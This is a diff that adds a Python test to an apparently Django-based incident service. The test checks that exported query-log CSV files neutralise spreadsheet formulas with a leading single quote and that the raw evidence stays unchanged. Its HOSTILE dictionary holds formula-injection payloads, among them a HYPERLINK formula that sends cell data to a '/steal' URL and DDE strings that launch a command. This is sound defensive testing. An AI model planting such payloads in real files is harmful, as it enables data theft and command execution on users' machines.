@@ -139,3 +139,56 @@ def test_the_export_holds_only_the_batches_of_the_snapshot(incident, service_use
     exported = list(csv.DictReader(io.StringIO(sink.getvalue().decode())))
     assert len(exported) == 5
     assert {r["batch"] for r in exported} == {str(first.pk)}
+
+
+HOSTILE = {
+    "prompt": '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click for details")',
+    "account_id": "+acct_evil",
+    "user_agent": "-2+3+cmd|' /C calc'!A0",
+    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "request_id": "\t=1+1",
+    "org_id": "\r=1+1",
+    "response": "=1+1",
+    "api_key_fp": "-1",
+}
+
+
+def test_the_query_log_export_neutralises_formulas_but_the_evidence_keeps_them(
+    incident, counsel, analyst, service_user, api, django_capture_on_commit_callbacks
+):
+    # given: a batch whose detector wrote formulas into every free-text field
+    body = ndjson([record(0, **HOSTILE), record(1, prompt="1 = 1 is not a formula")])
+    response = post(api(service_user, "ingest"), incident, body)
+    assert response.status_code == 201, response.content
+    evidence_url = response.json()["evidence"]["download_url"]
+    client = api(counsel)
+    # when
+    with django_capture_on_commit_callbacks(execute=True):
+        requested = client.post(
+            f"/api/v1/incidents/{incident.reference}/dossiers/", {}, format="json"
+        )
+    job = client.get(requested.json()["url"]).json()
+    assert job["status"] == "done", job
+    pdf = b"".join(client.get(job["pdf_url"]).streaming_content)
+    with pikepdf.open(io.BytesIO(pdf)) as document:
+        files = {
+            name: spec.get_file().read_bytes()
+            for name, spec in document.attachments.items()
+        }
+    # then: every such cell starts with a single quote in the export
+    exported = list(csv.DictReader(io.StringIO(files["query-logs.csv"].decode())))
+    hostile = next(r for r in exported if r["line"] == "1")
+    for field, value in HOSTILE.items():
+        assert hostile[field] == "'" + value, field
+    harmless = next(r for r in exported if r["line"] == "2")
+    assert harmless["account_id"] == "acct_1"
+    assert harmless["prompt"] == "1 = 1 is not a formula"
+    # and the manifest and the attachment say so
+    manifest = json.loads(files["manifest.json"])
+    entry = next(a for a in manifest["attachments"] if a["name"] == "query-logs.csv")
+    assert "single quote" in entry["description"]
+    assert "= + - @" in entry["description"]
+    # and the bytes as received are kept unchanged as evidence
+    kept = b"".join(api(analyst).get(evidence_url).streaming_content)
+    assert kept == body
+    assert b'"=HYPERLINK(' in kept
